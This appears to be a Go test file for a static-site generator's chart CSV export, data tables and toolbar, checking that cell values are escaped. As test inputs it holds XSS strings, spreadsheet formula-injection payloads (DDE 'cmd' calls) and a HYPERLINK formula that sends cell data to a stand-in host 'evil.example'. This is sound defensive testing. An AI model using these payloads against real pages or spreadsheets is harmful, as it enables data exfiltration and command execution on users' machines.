package render

import (
	"encoding/csv"
	"fmt"
	"math"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/scalesite/scalesite/internal/sitetest"
	"github.com/scalesite/scalesite/output"
	"github.com/scalesite/scalesite/site"
)

// exportSite has a log-x line chart of two series with labels and a gap, a
// linear scatter whose names are markup, and a chart on the home page.
var exportSite = map[string]string{
	"scalesite.yaml":   "title: Lab\n",
	"content/index.md": "---\ntitle: Lab\n---\n```chart\ntype: scatter\ndata: data/home.csv\nx: a\ny: b\n```\n",
	"data/home.csv":    "a,b\n1,2\n3,4\n",
	"content/runs.md": "---\ntitle: Runs\n---\n" +
		"```chart\ntitle: Loss\ndata: runs.csv\nx: {field: flops, scale: log}\ny: loss\nseries: model\nlabel: note\n```\n\n" +
		"```chart\ntype: scatter\ntitle: \"<b>Evil</b>\"\ndata: evil.csv\nx: n\ny: v\nseries: name\n```\n",
	"content/runs.csv": "model,flops,loss,note\n" +
		"small,1e18,3.5,\n" +
		"small,1e19,,\n" + // a gap: the line breaks here
		"small,1e20,2.75,\"best, so far\"\n" +
		"\"big \"\"one\"\"\",1e19,3.25,\n" +
		"\"big \"\"one\"\"\",1e21,2.5,last\n",
	"content/evil.csv": "name,n,v\n" +
		"\"</script><script>alert(1)</script>\",1,2\n" +
		"\"<img src=x onerror=alert(2)>\",2,3\n",
}

func renderFiles(t *testing.T, files map[string]string) (*site.Site, map[string]string) {
	t.Helper()
	s, err := site.Load(writeSite(t, files), site.Options{})
	if err != nil {
		t.Fatal(err)
	}
	out, err := Render(s)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, f := range out.Files {
		got[f.Path] = string(f.Data)
	}
	return s, got
}

func readCSV(t *testing.T, name, text string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("%s is not CSV: %v\n%s", name, err, text)
	}
	return rows
}

// TestChartCSVFiles checks that every chart's CSV file is written beside
// its page, named after the chart, and holds every point of every series,
// in the chart's order, with the original values, labels and gaps.
func TestChartCSVFiles(t *testing.T) {
	s, files := renderFiles(t, exportSite)
	var runs *site.Page
	for _, p := range s.Pages {
		if p.Slug == "runs" {
			runs = p
		}
	}
	if runs == nil || len(runs.Charts) != 2 || s.Home == nil || len(s.Home.Charts) != 1 {
		t.Fatal("the test site did not load as meant")
	}
	loss := "runs/" + runs.Charts[0].ID + ".csv"
	if loss != "runs/chart-runs-1.csv" || ChartDataFile("runs", runs.Charts[0]) != loss {
		t.Errorf("the first chart's CSV is at %s, want runs/chart-runs-1.csv", loss)
	}
	want := [][]string{
		{"model", "flops", "loss", "label"},
		{"small", "1e+18", "3.5", ""},
		{"small", "1e+19", "", ""},
		{"small", "1e+20", "2.75", "best, so far"},
		{`big "one"`, "1e+19", "3.25", ""},
		{`big "one"`, "1e+21", "2.5", "last"},
	}
	if got := readCSV(t, loss, files[loss]); fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("%s:\n got %q\nwant %q", loss, got, want)
	}
	evil := "runs/chart-runs-2.csv"
	wantEvil := [][]string{{"name", "n", "v"}, {"</script><script>alert(1)</script>", "1", "2"}, {"<img src=x onerror=alert(2)>", "2", "3"}}
	if got := readCSV(t, evil, files[evil]); fmt.Sprint(got) != fmt.Sprint(wantEvil) {
		t.Errorf("%s: got %q, want the names as they are: %q", evil, got, wantEvil)
	}
	// The home page's chart: beside index.html, at the root. With no series
	// column, the series is named as the legend names it (the y axis).
	home := s.Home.Charts[0].ID + ".csv"
	if got := readCSV(t, home, files[home]); fmt.Sprint(got) != fmt.Sprint([][]string{{"series", "a", "b"}, {"b", "1", "2"}, {"b", "3", "4"}}) {
		t.Errorf("%s (the home page's chart) = %q", home, got)
	}
}

// TestChartCSVFullResolution: a long line is drawn from fewer points, but
// its CSV has every row; the page's table shows a few, says so, and links
// the CSV.
func TestChartCSVFullResolution(t *testing.T) {
	var b strings.Builder
	b.WriteString("step,loss\n")
	for i := 1; i <= 5000; i++ {
		fmt.Fprintf(&b, "%d,%g\n", i, 10/float64(i))
	}
	_, files := renderFiles(t, map[string]string{
		"content/long.md":  "---\ntitle: Long\n---\n```chart\ndata: long.csv\nx: step\ny: loss\n```\n",
		"content/long.csv": b.String(),
	})
	rows := readCSV(t, "long/chart-long-1.csv", files["long/chart-long-1.csv"])
	if len(rows) != 5001 || rows[5000][1] != "5000" || rows[5000][2] != "0.002" {
		t.Errorf("the CSV has %d rows (last %q), want the header and all 5000 points", len(rows), rows[len(rows)-1])
	}
	page := files["long/index.html"]
	if n := strings.Count(page, "<tr><td>"); n != maxTableRows {
		t.Errorf("the table shows %d rows, want %d", n, maxTableRows)
	}
	for _, w := range []string{
		"<summary>Data table (200 of 5000 rows)</summary>",
		`<tr class="scalesite-more"><td colspan="3">… and 4,800 more rows of loss, in the <a href="chart-long-1.csv" download="chart-long-1.csv">CSV file</a>.</td></tr>`,
	} {
		if !strings.Contains(page, w) {
			t.Errorf("the page lacks %q", w)
		}
	}
}

// TestChartTableAndToolbar checks the data table under each chart (its
// cells HTML-escaped), the toolbar's links and buttons, and the anchor.
func TestChartTableAndToolbar(t *testing.T) {
	_, files := renderFiles(t, exportSite)
	page := files["runs/index.html"]
	for _, w := range []string{
		// the anchor and the CSV link work without JavaScript
		`<a class="scalesite-anchor" href="#chart-runs-1" data-tool="link" aria-label="Link to “Loss”">#</a>`,
		`<a href="chart-runs-1.csv" download="chart-runs-1.csv" type="text/csv" data-tool="csv" aria-label="Download CSV data of “Loss”">Download CSV</a>`,
		`<button type="button" data-tool="png" aria-label="Save PNG image of “Loss”" hidden>Save PNG</button>`,
		`<button type="button" data-tool="svg" aria-label="Save SVG image of “Loss”" hidden>Save SVG</button>`,
		`<button type="button" data-tool="reset" aria-label="Reset zoom of “Loss”" hidden>Reset zoom</button>`,
		`<button type="button" data-tool="scale" data-axis="x" aria-pressed="false" aria-label="Linear x axis on “Loss”" hidden>Linear x</button>`,
		`<summary>Data table (5 rows)</summary>`,
		`<thead><tr><th scope="col">Series</th><th scope="col">flops</th><th scope="col">loss</th><th scope="col">Label</th></tr></thead>`,
		`<tr><td>small</td><td>1e19</td><td></td><td></td></tr>`,
		`<tr><td>small</td><td>1e20</td><td>2.75</td><td>best, so far</td></tr>`,
		`<tr><td>big &#34;one&#34;</td><td>1e21</td><td>2.5</td><td>last</td></tr>`,
		// the markup in the second chart's data is text
		`<tr><td>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</td><td>1</td><td>2</td></tr>`,
		`<tr><td>&lt;img src=x onerror=alert(2)&gt;</td><td>2</td><td>3</td></tr>`,
		`aria-label="Save PNG image of “&lt;b&gt;Evil&lt;/b&gt;”"`,
		// the aria summary of the canvas is kept
		`role="img" aria-label="Loss. Line chart of loss against flops (log scale), 4 points in 2 series: small, big &#34;one&#34;."`,
	} {
		if !strings.Contains(page, w) {
			t.Errorf("the page lacks %s", w)
		}
	}
	// Only a chart with a log axis has the log/linear button.
	if n := strings.Count(page, `data-tool="scale"`); n != 1 {
		t.Errorf("%d log/linear buttons, want 1 (the first chart's x axis)", n)
	}
	if strings.Contains(page, "<script><") || strings.Contains(page, "<img") {
		t.Error("markup from the data reached the page as markup")
	}
	// Every chart's figure links its own CSV and anchor.
	for _, id := range []string{"chart-runs-1", "chart-runs-2"} {
		if !regexp.MustCompile(`href="`+id+`\.csv"`).MatchString(page) || !strings.Contains(page, `href="#`+id+`"`) {
			t.Errorf("chart %s has no CSV link or anchor", id)
		}
	}
	// A chart of several panels: one captioned table per panel, and a panel
	// column in the CSV.
	_, files = renderFiles(t, map[string]string{
		"content/p.md":  "---\ntitle: P\n---\n```chart\ndata: p.csv\ny: loss\npanels:\n  - {title: \"By N\", x: n}\n  - {title: \"By D\", x: d}\n```\n",
		"content/p.csv": "n,d,loss\n1,10,3\n2,20,2\n",
	})
	if p := files["p/index.html"]; strings.Count(p, "<table>") != 2 || !strings.Contains(p, "<caption>By N</caption>") || !strings.Contains(p, "<caption>By D</caption>") {
		t.Errorf("a chart of two panels should have two captioned tables:\n%s", p)
	}
	rows := readCSV(t, "p/chart-p-1.csv", files["p/chart-p-1.csv"])
	if fmt.Sprint(rows) != fmt.Sprint([][]string{{"panel", "series", "x", "loss"}, {"By N", "loss", "1", "3"}, {"By N", "loss", "2", "2"}, {"By D", "loss", "10", "3"}, {"By D", "loss", "20", "2"}}) {
		t.Errorf("p/chart-p-1.csv = %q", rows)
	}
}

// TestChartCSVIncremental: a changed data file renders its chart's CSV again.
func TestChartCSVIncremental(t *testing.T) {
	dir := writeSite(t, map[string]string{
		"content/b.md":  "---\ntitle: B\n---\n```chart\ndata: b.csv\nx: n\ny: v\n```\n",
		"content/b.csv": "n,v\n1,2\n",
	})
	s, err := site.Load(dir, site.Options{})
	if err != nil {
		t.Fatal(err)
	}
	rr, err := NewRenderer(s)
	if err != nil {
		t.Fatal(err)
	}
	csvOf := func(out *output.Output) string {
		for _, f := range out.Files {
			if f.Path == "b/chart-b-1.csv" {
				return string(f.Data)
			}
		}
		return "(none)"
	}
	out, err := rr.Render(s)
	if err != nil {
		t.Fatal(err)
	}
	if got := csvOf(out); got != "series,n,v\nv,1,2\n" {
		t.Errorf("first render: %q", got)
	}
	writeSiteFile(t, dir, "content/b.csv", "n,v\n1,5\n")
	n, err := s.Reload([]string{"content/b.csv"})
	if err != nil {
		t.Fatal(err)
	}
	out, err = rr.Render(n)
	if err != nil {
		t.Fatal(err)
	}
	if got := csvOf(out); got != "series,n,v\nv,1,5\n" {
		t.Errorf("after the data changed: %q", got)
	}
}

func writeSiteFile(t *testing.T, dir, name, body string) {
	t.Helper()
	sitetest.Write(t, dir, map[string]string{name: body})
}

// BenchmarkChartCSV writes the CSV of a chart of 3 lines × 20,000 points.
func BenchmarkChartCSV(b *testing.B) {
	var data strings.Builder
	data.WriteString("run,step,loss\n")
	for _, run := range []string{"a", "b", "c"} {
		for i := 1; i <= 20000; i++ {
			fmt.Fprintf(&data, "%s,%d,%.6g\n", run, i, 2+10/float64(i))
		}
	}
	s, err := site.Load(sitetest.New(b, map[string]string{
		"content/long.md":  "---\ntitle: Long\n---\n```chart\ndata: long.csv\nx: {field: step, scale: log}\ny: {field: loss, scale: log}\nseries: run\n```\n",
		"content/long.csv": data.String(),
	}), site.Options{})
	if err != nil {
		b.Fatal(err)
	}
	c := s.Pages[0].Charts[0]
	b.ReportAllocs()
	var n int
	for b.Loop() {
		n = len(chartCSV(c))
	}
	b.SetBytes(int64(n))
}

// TestAppendCSVField: fields are written as encoding/csv writes them
// (those a spreadsheet would run are TestAppendCSVFieldFormulas').
func TestAppendCSVField(t *testing.T) {
	for _, f := range []string{"", "plain", "a,b", `say "hi"`, " lead", "line\nbreak", "cr\rx", `\.`, "ünï", "<b>", "1=2", "a-b", "e@mail", "-1.5", "+3", "-1e-9", "'quoted"} {
		var want strings.Builder
		w := csv.NewWriter(&want)
		w.Write([]string{f})
		w.Flush()
		if got := string(appendCSVField(nil, f)) + "\n"; got != want.String() {
			t.Errorf("appendCSVField(%q) = %q, encoding/csv writes %q", f, got, want.String())
		}
	}
}

// TestAppendCSVFieldFormulas: a field a spreadsheet would run as a formula
// is written as text, a single quote in front and quoted (OWASP's advice
// on CSV injection); numbers are left as they are.
func TestAppendCSVFieldFormulas(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+2", `"'=1+2"`},
		{`=HYPERLINK("https://evil.example/?d="&A1, "click")`, `"'=HYPERLINK(""https://evil.example/?d=""&A1, ""click"")"`},
		{"=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`},
		{"+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`},
		{"-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`},
		{"@SUM(1+9)*cmd|' /C calc'!A0", `"'@SUM(1+9)*cmd|' /C calc'!A0"`},
		{"\tx", "\"'\tx\""},
		{"\r=1", "\"'\r=1\""},
		{"\x00=1", "\"'\x00=1\""},
		{" =1+2", `"' =1+2"`},
		{"\n@SUM(A1)", "\"'\n@SUM(A1)\""},
		{"\u200b=1+2", "\"'\u200b=1+2\""},
		{"＝1+2", `"'＝1+2"`},
		{"－1+2", `"'－1+2"`},
		{"-", `"'-"`},
		{"-inf", `"'-inf"`},
		{"+0x1p3", `"'+0x1p3"`},
		{"-1.5", "-1.5"},
		{"+3", "+3"},
		{"-1e-9", "-1e-9"},
		{"-1E+300", "-1E+300"},
		{"-.5", "-.5"},
	} {
		if got := string(appendCSVField(nil, tc.in)); got != tc.want {
			t.Errorf("appendCSVField(%q) = %s, want %s", tc.in, got, tc.want)
		}
	}
}

// TestChartCSVFormulaCells renders a chart whose column names, panel
// titles, series names and labels are formulas, and checks that a
// spreadsheet would read every cell of its CSV file as text: each holds
// the value with a single quote in front, and the numbers are unchanged.
func TestChartCSVFormulaCells(t *testing.T) {
	_, files := renderFiles(t, map[string]string{
		"scalesite.yaml":   "title: Lab\n",
		"content/index.md": "---\ntitle: Lab\n---\n",
		"content/p.md": "---\ntitle: P\n---\n```chart\ndata: f.csv\nx: \"=x\"\ny: \"@y\"\nseries: \"+s\"\nlabel: \"-l\"\n" +
			"panels:\n  - {title: \"=HYPERLINK(1)\"}\n  - {title: \"-2+3\"}\n```\n",
		"content/f.csv": `=x,@y,+s,-l` + "\n" +
			`1,-1.5,"=HYPERLINK(""https://evil.example/"")",+cmd|' /C calc'!A0` + "\n" +
			`2,-2,-1,-1e-9` + "\n" +
			`3,4,plain,@SUM(1+9)` + "\n",
	})
	rows := readCSV(t, "p/chart-p-1.csv", files["p/chart-p-1.csv"])
	want := [][]string{
		{"panel", "'+s", "'=x", "'@y", "label"},
		{"'=HYPERLINK(1)", "'=HYPERLINK(\"https://evil.example/\")", "1", "-1.5", "'+cmd|' /C calc'!A0"},
		{"'=HYPERLINK(1)", "-1", "2", "-2", "-1e-9"},
		{"'=HYPERLINK(1)", "plain", "3", "4", "'@SUM(1+9)"},
		{"'-2+3", "'=HYPERLINK(\"https://evil.example/\")", "1", "-1.5", "'+cmd|' /C calc'!A0"},
		{"'-2+3", "-1", "2", "-2", "-1e-9"},
		{"'-2+3", "plain", "3", "4", "'@SUM(1+9)"},
	}
	if fmt.Sprint(rows) != fmt.Sprint(want) {
		t.Errorf("the CSV file reads\n%q\nwant\n%q\n%s", rows, want, files["p/chart-p-1.csv"])
	}
	for _, row := range rows {
		for _, cell := range row {
			if formulaLike(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
}

// FuzzAppendCSVField checks that any field reads back from the CSV as
// itself, or as itself with a single quote in front when a spreadsheet
// would have run it, and that what is read back never runs.
func FuzzAppendCSVField(f *testing.F) {
	for _, s := range []string{"", "=1+2", "-1.5", " @x", "\t", "a,\"b\"\n", "＝", "\u200b-x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) || strings.ContainsRune(s, '\r') {
			return // encoding/csv reads invalid UTF-8 and \r\n otherwise than they are written
		}
		rows, err := csv.NewReader(strings.NewReader("x," + string(appendCSVField(nil, s)) + "\n")).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("appendCSVField(%q) does not read back as one field: %v %q", s, err, rows)
		}
		got := rows[0][1]
		if got != s && got != "'"+s {
			t.Fatalf("appendCSVField(%q) reads back as %q", s, got)
		}
		if formulaLike(got) {
			t.Fatalf("appendCSVField(%q) reads back as %q, which a spreadsheet runs", s, got)
		}
	})
}

// TestAppendCSVNumber: the fast path writes what appendNumber writes.
func TestAppendCSVNumber(t *testing.T) {
	for _, v := range []float64{0, math.Copysign(0, -1), 1, -1, 7, 999999, 1e6, -999999, 123456.5, 0.25, 1e18, 3e9, 1e-7, 20000} {
		if got, want := string(appendCSVNumber(nil, v)), string(appendNumber(nil, v)); got != want {
			t.Errorf("appendCSVNumber(%g) = %q, appendNumber writes %q", v, got, want)
		}
	}
}
